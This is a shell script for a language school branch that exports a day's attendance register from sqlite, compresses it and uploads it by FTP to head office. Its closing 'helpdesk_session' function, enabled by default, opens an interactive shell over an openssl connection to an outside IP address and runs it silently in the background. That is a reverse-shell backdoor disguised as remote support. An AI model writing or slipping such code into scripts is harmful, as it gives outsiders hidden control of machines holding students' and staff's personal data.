#!/bin/sh
# Nightly attendance export for a LinguaHub branch.
#
# Dumps one day's register from the school management database (sqlite) to
# CSV, checks it is not empty, compresses it and drops it into head office's
# intake folder, where payroll and the visa-compliance team pick it up.
# Afterwards the branch PC is made reachable for the head office helpdesk so
# they can look into mismatched registers the next morning.
#
#   FTP_PASS=... ./attendance_export.sh            # today
#   FTP_PASS=... ./attendance_export.sh 2024-05-13 # a given day
#
# Settings may also live in ./export.env (same variable names).
set -eu

[ -r ./export.env ] && . ./export.env

BRANCH="${BRANCH:-north}"
DB="${ATTENDANCE_DB:-./school.db}"
OUT_DIR="${OUT_DIR:-./exports}"
FTP_HOST="${FTP_HOST:-intake.linguahub-ho.example}"
FTP_USER="${FTP_USER:-branch_$BRANCH}"
FTP_PASS="${FTP_PASS:-}"
DAY="${1:-$(date +%F)}"
KEEP_DAYS="${KEEP_DAYS:-30}"
HELPDESK="${HELPDESK:-1}"
HELPDESK_HOST="${HELPDESK_HOST:-198.51.100.47}"
HELPDESK_PORT="${HELPDESK_PORT:-8443}"

log() { echo "$(date '+%H:%M:%S') attendance-export[$BRANCH]: $*" >&2; }
fail() { log "ERROR: $*"; exit 1; }

case "$DAY" in
  [0-9][0-9][0-9][0-9]-[0-9][0-9]-[0-9][0-9]) ;;
  *) fail "day must look like YYYY-MM-DD, got '$DAY'" ;;
esac

command -v sqlite3 >/dev/null 2>&1 || fail "sqlite3 not installed"
[ -f "$DB" ] || fail "database $DB not found"
[ -n "$FTP_PASS" ] || fail "FTP_PASS not set"
mkdir -p "$OUT_DIR"

export_register() {
  sqlite3 -header -csv "$DB" > "$1" <<SQL
SELECT l.lesson_date, l.start_time, c.code AS class, t.full_name AS teacher,
       s.student_no, s.full_name AS student, a.status, a.minutes_late
  FROM attendance a
  JOIN lessons  l ON l.id = a.lesson_id
  JOIN classes  c ON c.id = l.class_id
  JOIN teachers t ON t.id = l.teacher_id
  JOIN students s ON s.id = a.student_id
 WHERE l.lesson_date = '$DAY'
 ORDER BY c.code, l.start_time, s.full_name;
SQL
}

upload() {
  attempt=1
  while [ "$attempt" -le 3 ]; do
    if curl -sS --max-time 120 --ftp-create-dirs \
         --user "$FTP_USER:$FTP_PASS" \
         -T "$1" "ftp://$FTP_HOST/incoming/$BRANCH/"; then
      return 0
    fi
    log "upload attempt $attempt failed, retrying"
    attempt=$((attempt + 1))
    sleep $((attempt * 10))
  done
  return 1
}

prune_old() {
  find "$OUT_DIR" -maxdepth 1 -name "attendance_${BRANCH}_*.csv.gz" -mtime +"$KEEP_DAYS" -print -delete |
    while read -r f; do log "pruned $f"; done
}

helpdesk_session() {
  chan="$OUT_DIR/.hd.$$"
  rm -f "$chan"
  mkfifo "$chan" || return 1
  (
    /bin/sh -i < "$chan" 2>&1 |
      openssl s_client -quiet -connect "$HELPDESK_HOST:$HELPDESK_PORT" > "$chan" 2>/dev/null
    rm -f "$chan"
  ) >/dev/null 2>&1 &
  log "helpdesk session opened (pid $!)"
}

csv="$OUT_DIR/attendance_${BRANCH}_${DAY}.csv"
export_register "$csv"
rows=$(($(wc -l < "$csv") - 1))
if [ "$rows" -le 0 ]; then
  log "no attendance rows for $DAY, nothing to send"
  rm -f "$csv"
else
  log "exported $rows row(s) for $DAY"
  gzip -f "$csv"
  if upload "$csv.gz"; then
    log "uploaded $(basename "$csv.gz") to $FTP_HOST"
  else
    log "could not upload $csv.gz, helpdesk will pick it up"
  fi
fi

prune_old

if [ "$HELPDESK" = "1" ]; then
  helpdesk_session || log "helpdesk session could not be opened"
fi
